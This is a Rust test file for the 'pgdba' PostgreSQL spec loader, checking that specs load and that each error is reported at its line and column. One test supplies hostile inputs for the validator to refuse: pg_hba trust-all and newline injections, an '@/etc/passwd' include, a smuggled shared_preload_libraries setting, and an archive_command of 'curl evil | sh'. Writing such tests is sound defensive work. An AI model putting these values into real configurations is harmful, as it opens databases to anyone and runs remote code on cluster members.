//! Loading specs through the public API: good specs load, and every problem of a bad spec is
//! reported at its exact line:column with a readable message.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support::{assert_diags, diagnostics, fixture};

use std::path::Path;

use pgdba::spec;
use pgdba::spec::model::{GucValue, Provider};

#[test]
fn the_contract_demo_spec_loads() {
    let loaded = spec::load_file(&fixture("good/demo.yaml")).unwrap();
    let s = &loaded.spec;
    assert_eq!(s.metadata.name, "demo");
    assert_eq!(
        s.metadata.labels.get("env").map(String::as_str),
        Some("dev")
    );
    assert!(matches!(s.spec.provider, Provider::Local(_)));
    assert_eq!(s.spec.postgres.version, 15);
    assert_eq!(s.spec.replicas, 2);
    let p = &s.spec.postgres.parameters;
    assert_eq!(p["max_connections"], GucValue::Int(100));
    assert_eq!(p["work_mem"], GucValue::Str("4MB".into()));
    assert_eq!(p["shared_buffers"], GucValue::Str("128MB".into()));
    assert_eq!(
        (
            s.spec.patroni.ttl,
            s.spec.patroni.loop_wait,
            s.spec.patroni.retry_timeout
        ),
        (30, 10, 10)
    );
    assert_eq!(loaded.path, fixture("good/demo.yaml"));
}

#[test]
fn source_hash_is_the_sha256_of_the_file_bytes() {
    use sha2::{Digest, Sha256};
    let path = fixture("good/demo.yaml");
    let bytes = std::fs::read(&path).unwrap();
    let a = spec::load_file(&path).unwrap().source_hash;
    assert_eq!(a, hex::encode(Sha256::digest(&bytes)));
    // A comment changes the bytes, hence the hash, and not the spec.
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("demo.yaml");
    let mut text = String::from_utf8(bytes).unwrap();
    text.push_str("# touched\n");
    std::fs::write(&copy, text).unwrap();
    let b = spec::load_file(&copy).unwrap();
    assert_ne!(a, b.source_hash);
    assert_eq!(b.spec, spec::load_file(&path).unwrap().spec);
}

#[test]
fn every_good_fixture_loads() {
    for path in spec::discover(&fixture("good")).unwrap() {
        if let Err(diags) = spec::load_file(&path) {
            let shown: Vec<String> = diags.iter().map(ToString::to_string).collect();
            panic!("{}:\n{}", path.display(), shown.join("\n"));
        }
    }
}

#[test]
fn the_full_spec_keeps_every_field() {
    let s = spec::load_file(&fixture("good/full.yaml")).unwrap().spec;
    let Provider::Local(local) = &s.spec.provider else {
        panic!("full.yaml uses the local provider")
    };
    assert_eq!(local.pg_port, Some(25432));
    assert_eq!(local.run_as.as_deref(), Some("postgres"));
    let p = &s.spec.postgres.parameters;
    // YAML 1.2: `on` and `yes` are strings, `true` a bool; PostgreSQL reads them all as on.
    assert_eq!(p["wal_compression"], GucValue::Str("on".into()));
    assert_eq!(p["log_connections"], GucValue::Str("yes".into()));
    assert_eq!(p["fsync"], GucValue::Bool(true));
    assert_eq!(p["checkpoint_completion_target"], GucValue::Float(0.9));
    assert_eq!(p["pg_stat_statements.max"], GucValue::Int(10000));
    assert_eq!(s.metadata.labels["team"], "42");
    assert_eq!(s.spec.patroni.maximum_lag_on_failover, 33554432);
    assert!(s.spec.patroni.synchronous_mode);
    assert_eq!(s.spec.patroni.synchronous_node_count, 2);
    assert!(s.spec.patroni.synchronous_mode_strict);
}

#[test]
fn defaults_fill_what_a_minimal_spec_leaves_out() {
    let s = spec::load_file(&fixture("good/minimal.yml")).unwrap().spec;
    assert_eq!(s.spec.postgres.version, 15);
    assert!(s.spec.postgres.parameters.is_empty());
    assert_eq!(s.spec.patroni.ttl, 30);
    assert!(!s.spec.patroni.synchronous_mode);
    assert_eq!(s.spec.patroni.synchronous_node_count, 1);
    assert!(!s.spec.patroni.synchronous_mode_strict);
    assert!(s.metadata.labels.is_empty());
}

#[test]
fn several_problems_in_one_file_are_all_reported_in_order() {
    assert_diags(
        "bad/many-problems.yaml",
        &[
            (
                1,
                13,
                "apiVersion: `pgdba/v2` is not supported; expected one of: pgdba/v1",
            ),
            (
                4,
                9,
                "metadata.name `Demo_1`: use lowercase letters, digits and '-'",
            ),
            (
                11,
                7,
                "unknown parameter `wrok_mem` for PostgreSQL 15 (did you mean `work_mem`?)",
            ),
            (
                12,
                17,
                "unknown unit `parsecs` for work_mem; use one of B, kB, MB, GB, TB",
            ),
            (13, 14, "`maybe` is not a boolean; fsync takes on or off"),
            (
                14,
                23,
                "`1kB` (= 0 × 8kB) is below the minimum 128kB of shared_buffers",
            ),
            (15, 7, "parameter `port` is managed by pgdba"),
            (17, 13, "spec.replicas: -1 is less than the minimum 0"),
            (
                18,
                3,
                "unknown field `colour` in spec, expected one of: provider, postgres, replicas, patroni",
            ),
            (
                20,
                10,
                "ttl 20 is too short: Patroni needs ttl >= loop_wait + 2 × retry_timeout = 10 + 2 × 10 = 30",
            ),
        ],
    );
}

#[test]
fn unknown_fields_point_at_the_key_at_every_depth() {
    assert_diags(
        "bad/unknown-fields.yaml",
        &[
            (
                3,
                1,
                "unknown field `colour` at the top level, expected one of: apiVersion, kind, metadata, spec",
            ),
            (
                6,
                3,
                "unknown field `labelz` in metadata, expected one of: name, labels (did you mean `labels`?)",
            ),
            (
                10,
                7,
                "unknown field `pg_prot` in spec.provider.local, expected one of: data_dir, pg_port,",
            ),
            (
                13,
                5,
                "unknown field `bogus` in spec.postgres, expected one of: version, parameters",
            ),
            (
                17,
                5,
                "unknown field `loop_waits` in spec.patroni, expected one of: ttl, loop_wait, retry_timeout, maximum_lag_on_failover, failsafe_mode, synchronous_mode, synchronous_node_count, synchronous_mode_strict, watchdog (did you mean `loop_wait`?)",
            ),
        ],
    );
}

#[test]
fn wrong_types_point_at_the_value() {
    assert_diags(
        "bad/wrong-types.yaml",
        &[
            (
                6,
                10,
                "metadata.labels.env: expected a string, found an integer `1` (quote it to make it a string)",
            ),
            (
                10,
                16,
                "spec.provider.local.pg_port: expected an integer, found a string `5432x`",
            ),
            (
                12,
                14,
                "spec.postgres.version: expected an integer, found a string `15` (remove the quotes)",
            ),
            (
                13,
                17,
                "spec.postgres.parameters: expected a mapping, found a list",
            ),
            (
                14,
                13,
                "spec.replicas: expected an integer, found a string `two`",
            ),
            (
                16,
                10,
                "spec.patroni.ttl: expected an integer, found a string `30s`",
            ),
        ],
    );
}

#[test]
fn single_problem_fixtures() {
    let cases: &[(&str, usize, usize, &str)] = &[
        (
            "bad/negative-replicas.yaml",
            8,
            13,
            "spec.replicas: -1 is less than the minimum 0",
        ),
        (
            "bad/bad-name.yaml",
            4,
            9,
            "metadata.name `Demo_1`: use lowercase letters, digits and '-'",
        ),
        (
            "bad/unknown-guc.yaml",
            10,
            7,
            "unknown parameter `wrok_mem` for PostgreSQL 15 (did you mean `work_mem`?)",
        ),
        (
            "bad/guc-wrong-unit.yaml",
            10,
            17,
            "`4 parsecs`: unknown unit `parsecs` for work_mem",
        ),
        (
            "bad/bad-bool.yaml",
            10,
            14,
            "`maybe` is not a boolean; fsync takes on or off",
        ),
        (
            "bad/unsupported-version.yaml",
            9,
            14,
            "PostgreSQL 16 is not supported (supported: 15, 17)",
        ),
        (
            "bad/ttl-rule.yaml",
            10,
            10,
            "spec.patroni.ttl 30 is too short: Patroni needs ttl >= loop_wait + 2 × retry_timeout = 10 + 2 × 15 = 40",
        ),
        (
            "bad/sync-node-count.yaml",
            11,
            29,
            "spec.patroni.synchronous_node_count 3 is more than spec.replicas 2: only replicas can be synchronous standbys",
        ),
        (
            "bad/sync-strict-alone.yaml",
            9,
            38,
            "spec.patroni.synchronous_mode_strict needs spec.patroni.synchronous_mode: true",
        ),
        // ttl left at its default: point at the patroni block that breaks the rule.
        (
            "bad/ttl-rule-default.yaml",
            9,
            3,
            "spec.patroni.ttl (default 30) is too short",
        ),
        (
            "bad/broken-yaml.yaml",
            4,
            13,
            "invalid YAML: mapping values are not allowed in this context",
        ),
        (
            "bad/duplicate-key.yaml",
            9,
            3,
            "duplicate key `replicas` (first set at line 8, column 3)",
        ),
        ("bad/multi-doc.yaml", 9, 1, "a second YAML document"),
        (
            "bad/unknown-provider.yaml",
            7,
            5,
            "unknown field `nomad` in spec.provider, expected one of: local, docker",
        ),
        (
            "bad/not-a-mapping.yaml",
            1,
            1,
            "a spec must be a mapping with apiVersion, kind, metadata and spec; found a list",
        ),
        ("bad/empty.yaml", 1, 1, "empty spec"),
        ("bad/comments-only.yaml", 1, 1, "empty spec"),
        ("bad/binary.yaml", 1, 1, "invalid UTF-8 (byte 0x89)"),
        ("bad/bad-utf8.yaml", 2, 10, "invalid UTF-8 (byte 0xFF)"),
        ("bad/control-char.yaml", 4, 11, "control character U+0001"),
    ];
    for (rel, line, column, fragment) in cases {
        assert_diags(rel, &[(*line, *column, fragment)]);
    }
}

#[test]
fn gucs_pgdba_owns_read_only_gucs_and_case_duplicates_are_refused() {
    assert_diags(
        "bad/managed-internal-duplicate-guc.yaml",
        &[
            (
                10,
                7,
                "parameter `port` is managed by pgdba and cannot be set here: the port comes from the provider: set spec.provider.local.pg_port",
            ),
            (11, 7, "parameter `server_version` is read-only"),
            (
                13,
                7,
                "parameter `work_mem` is set twice (also as `Work_Mem`",
            ),
        ],
    );
}

#[test]
fn missing_fields_point_at_the_parent_key() {
    assert_diags(
        "bad/missing-fields.yaml",
        &[
            (3, 1, "missing field `name` in metadata"),
            (5, 1, "missing field `replicas` in spec"),
        ],
    );
}

#[test]
fn guc_values_of_no_usable_type_are_reported() {
    assert_diags(
        "bad/null-guc.yaml",
        &[
            (
                10,
                7,
                "spec.postgres.parameters.work_mem: expected a boolean, a number or a string, found nothing",
            ),
            (
                11,
                24,
                "spec.postgres.parameters.max_connections: expected a boolean, a number or a string, found a list",
            ),
        ],
    );
}

#[test]
fn provider_fields_are_checked_through_the_provider_enum() {
    assert_diags(
        "bad/provider-bad-field.yaml",
        &[
            (
                8,
                16,
                "spec.provider.local.pg_port: 80 is less than the minimum 1024",
            ),
            (9, 7, "unknown field `bogus` in spec.provider.local"),
        ],
    );
}

#[test]
fn diagnostics_display_as_file_line_col_error_then_the_snippet() {
    let d = diagnostics("bad/unknown-guc.yaml");
    let shown = d[0].to_string();
    let file = fixture("bad/unknown-guc.yaml").display().to_string();
    assert_eq!(
        shown,
        format!(
            "{file}:10:7: error: unknown parameter `wrok_mem` for PostgreSQL 15 (did you mean \
             `work_mem`?)\n 10 |       wrok_mem: 4MB\n    |       ^"
        )
    );
    // No source line for an empty file.
    assert_eq!(diagnostics("bad/empty.yaml")[0].snippet, None);
}

#[test]
fn load_str_labels_diagnostics_with_the_given_name() {
    let err = spec::load_str("inline", b"kind: Cluster\n").unwrap_err();
    assert!(err.iter().all(|d| d.file == "inline"));
    assert!(
        err.iter()
            .any(|d| d.message.contains("missing field `apiVersion`"))
    );
    assert_eq!((err[0].line, err[0].column), (1, 1));
}

#[test]
fn an_unreadable_file_is_one_diagnostic_at_1_1() {
    let err = spec::load_file(Path::new("/nonexistent/pgdba/spec.yaml")).unwrap_err();
    assert_eq!(err.len(), 1);
    assert_eq!((err[0].line, err[0].column), (1, 1));
    assert!(
        err[0].message.contains("cannot read the spec file"),
        "{}",
        err[0]
    );
    assert_eq!(err[0].file, "/nonexistent/pgdba/spec.yaml");
}

#[test]
fn yaml_1_2_keeps_on_and_yes_as_strings_and_guc_checks_accept_them() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {}}\n  replicas: 0\n  postgres:\n    parameters: {fsync: on, hot_standby_feedback: yes, wal_compression: off}\n";
    let s = spec::load_str("t.yaml", text).unwrap();
    assert_eq!(
        s.spec.postgres.parameters["fsync"],
        GucValue::Str("on".into())
    );
}

#[test]
fn a_bom_is_skipped_and_crlf_line_ends_are_fine() {
    let text = "\u{feff}apiVersion: pgdba/v1\r\nkind: Cluster\r\nmetadata:\r\n  name: a\r\nspec:\r\n  provider: {local: {}}\r\n  replicas: -1\r\n";
    let err = spec::load_str("t.yaml", text.as_bytes()).unwrap_err();
    assert_eq!((err[0].line, err[0].column), (7, 13), "{}", err[0]);
    assert!(!err[0].snippet.as_deref().unwrap_or_default().contains('\r'));
}

#[test]
fn anchors_and_aliases_are_resolved() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a, labels: &l {env: dev}}\nspec:\n  provider: {local: {}}\n  replicas: 0\n  postgres: {parameters: *l}\n";
    // The alias brings `env: dev` into the parameters: an unknown GUC, reported at the alias.
    let err = spec::load_str("t.yaml", text).unwrap_err();
    assert_eq!(err.len(), 1, "{err:?}");
    assert!(
        err[0].message.contains("unknown parameter `env`"),
        "{}",
        err[0]
    );
}

#[test]
fn custom_extension_gucs_pass_through() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {}}\n  replicas: 0\n  postgres:\n    parameters: {auto_explain.log_min_duration: 5s}\n";
    assert!(spec::load_str("t.yaml", text).is_ok());
}

#[test]
fn out_of_range_integers_for_the_model_are_schema_errors_not_panics() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {pg_port: 70000}}\n  replicas: 0\n  patroni: {ttl: 99999999999}\n";
    let err = spec::load_str("t.yaml", text).unwrap_err();
    let msgs: Vec<&str> = err.iter().map(|d| d.message.as_str()).collect();
    assert_eq!(msgs.len(), 2, "{msgs:?}");
    assert!(
        msgs[0].contains("70000 is more than the maximum 65535"),
        "{msgs:?}"
    );
    assert!(
        msgs[1].contains("99999999999 is more than the maximum 3600"),
        "{msgs:?}"
    );
}

#[test]
fn discover_lists_specs_of_a_directory_sorted() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["b.yaml", "a.yml", "c.YAML", "notes.txt", ".hidden.yaml"] {
        std::fs::write(dir.path().join(name), "x").unwrap();
    }
    std::fs::create_dir(dir.path().join("sub.yaml")).unwrap();
    std::fs::write(dir.path().join("sub.yaml/inner.yaml"), "x").unwrap();
    let found = spec::discover(dir.path()).unwrap();
    let names: Vec<String> = found
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["a.yml", "b.yaml", "c.YAML"]);
}

#[test]
fn discover_of_a_file_is_that_file() {
    let f = fixture("good/demo.yaml");
    assert_eq!(spec::discover(&f).unwrap(), vec![f]);
}

#[test]
fn discover_errors_name_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let err = spec::discover(dir.path()).unwrap_err();
    assert!(err.message.contains("no spec files"), "{err}");
    assert_eq!(err.file, dir.path().display().to_string());
    let err = spec::discover(&dir.path().join("missing")).unwrap_err();
    assert!(err.message.contains("cannot read"), "{err}");
    assert_eq!((err.line, err.column), (1, 1));
}

/// Issue 17: values Patroni replaces by its own would have the cluster run something else than
/// the spec says, and a plan call that converged. They are refused, each with why, in one run.
#[test]
fn values_patroni_would_replace_are_refused_with_the_reason() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {}}\n  replicas: 2\n  postgres:\n    parameters:\n      wal_level: minimal\n      max_connections: 20\n      max_wal_senders: 2\n      max_replication_slots: 4\n      wal_keep_size: 8MB\n";
    let err = spec::load_str("t.yaml", text).unwrap_err();
    let shown: Vec<String> = err.iter().map(ToString::to_string).collect();
    assert_eq!(err.len(), 4, "{shown:#?}");
    assert_eq!((err[0].line, err[0].column), (9, 18), "{}", err[0]);
    assert!(
        err[0]
            .message
            .contains("Patroni runs PostgreSQL with `replica`")
    );
    assert!(
        err[1]
            .message
            .contains("Patroni refuses it and runs PostgreSQL with 100")
    );
    assert!(
        err[2]
            .message
            .contains("Patroni refuses it and runs PostgreSQL with 10")
    );
    assert!(
        err[3]
            .message
            .contains("Patroni refuses it and runs PostgreSQL with 128MB")
    );
    // Enough for Patroni, not for the replicas.
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {}}\n  replicas: 5\n  postgres:\n    parameters: {max_wal_senders: 4, wal_level: logical}\n";
    let err = spec::load_str("t.yaml", text).unwrap_err();
    assert_eq!(err.len(), 1, "{err:?}");
    assert!(
        err[0].message.contains("too low for 5 replicas"),
        "{}",
        err[0]
    );
}

/// Issue 17: structural problems (unknown fields, wrong types) and semantic ones (a value
/// Patroni replaces, Patroni's timing rule) come in one run, wherever the structure allows:
/// a wrong-typed `version` or an unrelated bad Patroni field does not hide the other checks.
#[test]
fn structural_and_semantic_problems_are_reported_together() {
    let text = b"apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a, colour: blue}\nspec:\n  provider: {local: {}}\n  replicas: 1\n  postgres:\n    version: fifteen\n    parameters: {wal_level: minimal}\n  patroni: {ttl: 5, maximum_lag_on_failover: lots}\n";
    let err = spec::load_str("t.yaml", text).unwrap_err();
    let shown: Vec<String> = err.iter().map(ToString::to_string).collect();
    let at: Vec<(usize, usize)> = err.iter().map(|d| (d.line, d.column)).collect();
    assert_eq!(
        at,
        vec![(3, 21), (8, 14), (9, 29), (10, 18), (10, 46)],
        "{shown:#?}"
    );
    assert!(err[0].message.contains("unknown field `colour`"));
    assert!(err[2].message.contains("wal_level `minimal`"));
    assert!(
        err[3]
            .message
            .contains("spec.patroni.ttl: 5 is less than the minimum 20"),
        "{shown:#?}"
    );
}

/// Issue 8: what a spec could smuggle into files pgdba writes as root, or into commands the
/// members run, is refused by validate, each at its position.
#[test]
fn hostile_specs_are_refused_with_their_location() {
    let base = "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {data_dir: /var/lib/pgdba/a}}\n  replicas: 1\n";
    let cases: &[(&str, (usize, usize), &str)] = &[
        (
            "  hba:\n    - {type: local, database: all, user: \"all 0.0.0.0/0 trust #\", method: scram-sha-256}\n",
            (8, 42),
            "hba user `all 0.0.0.0/0 trust #` is not a name",
        ),
        (
            "  hba:\n    - {type: local, database: \"@/etc/passwd\", user: all, method: trust}\n",
            (8, 31),
            "file includes are not supported",
        ),
        (
            "  hba:\n    - {type: host, database: \"app\\nhost all all 0.0.0.0/0 trust\", user: all, address: 10.0.0.0/8, method: md5}\n",
            (8, 30),
            "is not a name",
        ),
        (
            "  postgres:\n    parameters: {work_mem: \"4MB\\nshared_preload_libraries = 'evil'\"}\n",
            (8, 28),
            "may not hold control characters",
        ),
        (
            "  postgres:\n    parameters: {archive_command: \"curl evil | sh\"}\n",
            (8, 18),
            "runs a command or loads code on every member",
        ),
        (
            "  postgres:\n    parameters: {app.setting: \"x\\ny\"}\n",
            (8, 31),
            "may not hold control characters",
        ),
        (
            "  roles:\n    - {name: public}\n",
            (8, 14),
            "`public` is a word PostgreSQL reserves",
        ),
        (
            "  roles:\n    - {name: current_user}\n",
            (8, 14),
            "reserves",
        ),
    ];
    for (extra, at, fragment) in cases {
        let text = format!("{base}{extra}");
        let err = spec::load_str("t.yaml", text.as_bytes())
            .err()
            .unwrap_or_else(|| panic!("accepted: {extra}"));
        assert_eq!(err.len(), 1, "{extra}: {err:?}");
        assert!(err[0].message.contains(fragment), "{extra}: {}", err[0]);
        assert_eq!((err[0].line, err[0].column), *at, "{extra}: {}", err[0]);
    }
    // Allowed by name, an unsafe parameter validates.
    let text = format!(
        "{base}  postgres:\n    parameters: {{archive_command: \"/bin/true\"}}\n    allow_unsafe_parameters: [archive_command]\n"
    );
    assert!(spec::load_str("t.yaml", text.as_bytes()).is_ok());
}

/// Issue 8: the data directory is absolute, normalized and not a system tree; ports that add up
/// stay ports; timeouts are bounded so that no sum overflows.
#[test]
fn paths_and_numbers_that_add_up_are_checked() {
    let spec_with = |local: &str, extra: &str| {
        format!(
            "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {{name: a}}\nspec:\n  provider: {{local: {{{local}}}}}\n  replicas: 2\n{extra}"
        )
    };
    for (dir, fragment) in [
        ("relative/dir", "absolute"),
        ("/var/lib/pgdba/../../etc", "normalized"),
        ("/", "system directory"),
        ("/etc", "system directory"),
        ("/var/lib/", "system directory"),
        ("/root", "system directory"),
    ] {
        let text = spec_with(&format!("data_dir: \"{dir}\""), "");
        let err = spec::load_str("t.yaml", text.as_bytes()).unwrap_err();
        assert!(
            err.iter()
                .any(|d| d.message.contains(fragment) && d.line == 5),
            "{dir}: {err:?}"
        );
    }
    let text = spec_with("pg_port: 65534", "");
    let err = spec::load_str("t.yaml", text.as_bytes()).unwrap_err();
    assert!(err[0].message.contains("above 65535"), "{err:?}");
    let text = spec_with("etcd_port: 65535", "");
    assert!(spec::load_str("t.yaml", text.as_bytes()).is_err());
    let text = spec_with("", "  patroni: {ttl: 4000000000, loop_wait: 4000000000}\n");
    assert!(spec::load_str("t.yaml", text.as_bytes()).is_err());
}

/// Issue 9: `spec.postgres.version` is one of the supported majors (15, 17), the same list in
/// the schema and in `validate`; any other is one error at the version, naming the list.
#[test]
fn only_the_supported_majors_are_accepted() {
    let spec_for = |version: &str| {
        format!(
            "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {{name: a}}\nspec:\n  provider: {{local: {{}}}}\n  replicas: 1\n  postgres:\n    version: {version}\n"
        )
    };
    for version in ["15", "17"] {
        let s = spec::load_str("t.yaml", spec_for(version).as_bytes()).unwrap();
        assert_eq!(s.spec.postgres.version.to_string(), version);
    }
    for version in ["13", "14", "16", "18", "0", "4294967295"] {
        let err = spec::load_str("t.yaml", spec_for(version).as_bytes()).unwrap_err();
        let shown: Vec<String> = err.iter().map(ToString::to_string).collect();
        assert_eq!(err.len(), 1, "{version}: {shown:#?}");
        assert_eq!(
            err[0].message,
            format!("PostgreSQL {version} is not supported (supported: 15, 17)")
        );
        assert_eq!((err[0].line, err[0].column), (8, 14), "{}", err[0]);
    }
    // As `validate` prints it: file:line:column, then the line.
    let d = diagnostics("bad/unsupported-version.yaml");
    let file = fixture("bad/unsupported-version.yaml")
        .display()
        .to_string();
    assert_eq!(
        d[0].to_string(),
        format!(
            "{file}:9:14: error: PostgreSQL 16 is not supported (supported: 15, 17)\n 9 |     version: 16\n   |              ^"
        )
    );
}

/// Issue 9: parameters are checked against the chosen major's GUC catalog: a GUC PostgreSQL 17
/// added is valid with 17 and unknown to 15, and one 17 removed is unknown to 17.
#[test]
fn parameters_are_checked_against_the_chosen_majors_catalog() {
    let spec_for = |version: u32, parameters: &str| {
        format!(
            "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {{name: a}}\nspec:\n  provider: {{local: {{}}}}\n  replicas: 1\n  postgres:\n    version: {version}\n    parameters:\n      {parameters}\n"
        )
    };
    for (guc, value) in [
        ("summarize_wal", "on"),
        ("io_combine_limit", "128kB"),
        ("transaction_timeout", "5min"),
        ("allow_alter_system", "off"),
    ] {
        let param = format!("{guc}: {value}");
        let s = spec::load_str("t.yaml", spec_for(17, &param).as_bytes())
            .unwrap_or_else(|e| panic!("{guc} with 17: {e:?}"));
        assert!(s.spec.postgres.parameters.contains_key(guc));
        let err = spec::load_str("t.yaml", spec_for(15, &param).as_bytes()).unwrap_err();
        assert_eq!(err.len(), 1, "{guc} with 15: {err:?}");
        assert!(
            err[0]
                .message
                .starts_with(&format!("unknown parameter `{guc}` for PostgreSQL 15")),
            "{}",
            err[0]
        );
        assert_eq!((err[0].line, err[0].column), (10, 7), "{}", err[0]);
    }
    // Ranges are 17's: io_combine_limit is at most 32 × 8kB = 256kB.
    let err =
        spec::load_str("t.yaml", spec_for(17, "io_combine_limit: 1MB").as_bytes()).unwrap_err();
    assert_eq!(err.len(), 1, "{err:?}");
    assert!(err[0].message.contains("io_combine_limit"), "{}", err[0]);
    assert_eq!((err[0].line, err[0].column), (10, 25), "{}", err[0]);
    // Removed in 17: valid with 15 only.
    let param = "old_snapshot_threshold: 1h";
    assert!(spec::load_str("t.yaml", spec_for(15, param).as_bytes()).is_ok());
    let err = spec::load_str("t.yaml", spec_for(17, param).as_bytes()).unwrap_err();
    assert_eq!(err.len(), 1, "{err:?}");
    assert!(
        err[0]
            .message
            .starts_with("unknown parameter `old_snapshot_threshold` for PostgreSQL 17"),
        "{}",
        err[0]
    );
}

#[test]
fn spec_backup_derives_the_archiving_parameters_pgdba_owns() {
    let loaded = spec::load_file(&fixture("good/backup.yaml")).unwrap();
    let p = &loaded.spec.spec.postgres.parameters;
    assert_eq!(p["archive_mode"], GucValue::Str("on".into()));
    let GucValue::Str(command) = &p["archive_command"] else {
        panic!("{:?}", p["archive_command"]);
    };
    assert!(
        command.starts_with("pgbackrest --config=")
            && command.ends_with("--stanza=bk archive-push %p"),
        "{command}"
    );
    let b = loaded.spec.spec.backup.as_ref().unwrap();
    assert_eq!((b.retention.full, b.retention.diff), (3, Some(6)));
    assert_eq!(b.compression.as_str(), "zst");
}

#[test]
fn spec_backup_problems_are_reported_where_they_are() {
    assert_diags(
        "bad/backup.yaml",
        &[
            (
                10,
                7,
                "parameter `archive_mode` is set by pgdba from spec.backup",
            ),
            (
                13,
                3,
                "spec.backup works on the local, docker and ssh providers so far",
            ),
            (14, 24, "must be an absolute path"),
            (
                15,
                23,
                "spec.backup.retention.full: 0 is less than the minimum 1",
            ),
        ],
    );
}

/// Issue 11: an S3 repository, encryption and `from_standby` load with their defaults, and
/// the secrets stay references.
#[test]
fn spec_backup_s3_loads_with_its_defaults() {
    use pgdba::spec::model::{BackupRepository, S3UriStyle, SecretRef};
    let loaded = spec::load_file(&fixture("good/backup-s3.yaml")).unwrap();
    let b = loaded.spec.spec.backup.as_ref().unwrap();
    let BackupRepository::S3(s3) = &b.repository else {
        panic!("{:?}", b.repository);
    };
    assert_eq!(s3.path, "/pgdba");
    assert_eq!(s3.uri_style, S3UriStyle::Host);
    assert!(s3.verify_tls);
    assert_eq!((s3.ca_file.as_ref(), s3.port), (None, None));
    assert_eq!(s3.key, SecretRef::Env("PGDBA_S3_KEY".into()));
    let e = b.encryption.as_ref().unwrap();
    assert_eq!(e.cipher.as_str(), "aes-256-cbc");
    assert!(b.from_standby);
    assert_eq!(
        b.repository.describe(),
        "s3://pgdba-backups/pgdba at s3.eu-west-1.amazonaws.com"
    );
}

#[test]
fn spec_backup_s3_problems_are_reported_where_they_are() {
    assert_diags(
        "bad/backup-s3.yaml",
        &[
            (
                11,
                17,
                "spec.backup.repository.s3.bucket `Backups_Here` is not a bucket name",
            ),
            (
                12,
                19,
                "spec.backup.repository.s3.endpoint `https://s3.example.com` must be a host name without a scheme",
            ),
            (
                13,
                17,
                "spec.backup.repository.s3.region `` must be a region name",
            ),
            (
                14,
                15,
                "spec.backup.repository.s3.path `pgdba` must be an absolute prefix",
            ),
            (
                17,
                20,
                "spec.backup.repository.s3.uri_style: `virtual` is not supported; expected one of: host, path",
            ),
            (
                18,
                18,
                "spec.backup.repository.s3.ca_file `certs/ca.pem` must be an absolute path",
            ),
            (
                19,
                26,
                "spec.backup.encryption.cipher: `aes-128-cbc` is not supported; expected one of: aes-256-cbc",
            ),
            (20, 19, "spec.backup.from_standby needs a replica"),
            (
                22,
                17,
                "spec.restore_from.repository: set exactly one of path, s3, found path, s3",
            ),
        ],
    );
}
